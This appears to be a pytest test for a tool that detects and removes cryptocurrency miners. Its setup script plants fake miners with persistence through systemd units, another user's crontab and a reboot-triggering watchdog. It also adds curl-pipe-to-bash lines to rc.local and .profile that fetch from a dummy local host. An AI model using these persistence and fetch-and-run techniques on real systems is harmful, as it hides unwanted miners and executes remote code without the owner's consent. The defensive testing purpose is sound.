"""Miners on a plain system, started in forms that name none of them by an absolute path."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from lab.rigs.machine import Rig
from tests.lab.mining.rigs import demine, facts, find_mining
from tests.lab.operator import fab, reboot, wait_until

#: A unit with a relative script without an interpreter's name, another user's crontab, instances of
#: a template, a unit that only its control group gives away, a guard that would reset an idle rig,
#: and lines that run what they fetch.
SETUP = r"""
set -e
unit() {
    printf '[Service]\n%b\nRestart=always\nRestartSec=3\n' "$2" > "/etc/systemd/system/$1.service"
    printf '[Install]\nWantedBy=multi-user.target\n' >> "/etc/systemd/system/$1.service"
}
miner=/usr/lib/lab-hardware/fake-miner
mkdir -p /home/user/trex /home/me/lol /opt/pool /opt/work
useradd --home-dir /home/me --shell /bin/bash me
cp $miner /home/user/trex/t-rex
echo './t-rex -a x' > /home/user/trex/start.sh
unit mining 'WorkingDirectory=/home/user/trex\nExecStart=/bin/bash start.sh'
cp $miner /home/me/lol/lolMiner
printf '#!/bin/sh\nexec ./lolMiner\n' > /home/me/lol/start.sh
chmod 755 /home/me/lol/start.sh
chown -R me /home/me
echo '@reboot cd lol && ./start.sh' | crontab -u me -
cp $miner /opt/pool/gminer
unit pool@ 'ExecStart=/opt/pool/gminer --gpu %i'
cp $miner /opt/work/nbminer
echo nbminer > /opt/work/name
printf '#!/bin/sh\nexec "/opt/work/$(cat /opt/work/name)"\n' > /opt/work/run
chmod 755 /opt/work/run
unit work 'ExecStart=/opt/work/run'
printf '#!/bin/sh\nwhile sleep 60; do grep -q never /proc/loadavg && reboot; done\n' > /opt/idle.sh
chmod 755 /opt/idle.sh
unit cpu-watchdog 'ExecStart=/opt/idle.sh'
printf '#!/bin/sh\ncurl -s http://127.0.0.9:9/x.sh | bash\n' > /etc/rc.local
chmod 755 /etc/rc.local
echo 'curl -s http://127.0.0.9:9/y.sh | bash' >> /home/me/.profile
systemctl daemon-reload
systemctl --quiet enable mining work pool@0 pool@1 cpu-watchdog
"""
PROGRAMS = ("t-rex", "lolMiner", "gminer", "nbminer")


@pytest.mark.extended
def test_miners_without_absolute_paths_stay_away(
    make_rig: Callable[..., Rig], write_inventory: Callable[..., Path]
) -> None:
    rig = make_rig("test28", flavour="clean")
    inventory = write_inventory(rig)
    rig.run(SETUP)
    reboot(rig)
    wait_until(lambda: all(any(name in line for line in find_mining(rig)) for name in PROGRAMS))

    result = fab(inventory, rig.name, "assess", "--json")
    assessed = json.loads(result.stdout)[rig.name]["facts"]["miners"]
    assert assessed == facts(inventory, rig.name)["miners"]
    names = {row["name"] for row in assessed if row["kind"] in ("watchdog", "unit", "cron")}
    assert names == {
        *("mining.service", "pool@0.service", "pool@1.service", "work.service"),
        *("cpu-watchdog.service", "./start.sh"),
    }
    assert demine(inventory, rig.name)["changed"] > 0
    assert find_mining(rig) == []
    assert facts(inventory, rig.name)["miners"] == []
    assert rig.run("systemctl --failed --plain --no-legend").stdout == ""
    assert rig.run("crontab -l -u me").stdout == "# deeprig: @reboot cd lol && ./start.sh\n"

    reboot(rig)
    assert find_mining(rig) == []
    assert rig.run("pgrep -f [i]dle.sh || true").stdout == ""
    assert demine(inventory, rig.name)["changed"] == 0
    rig.discard()
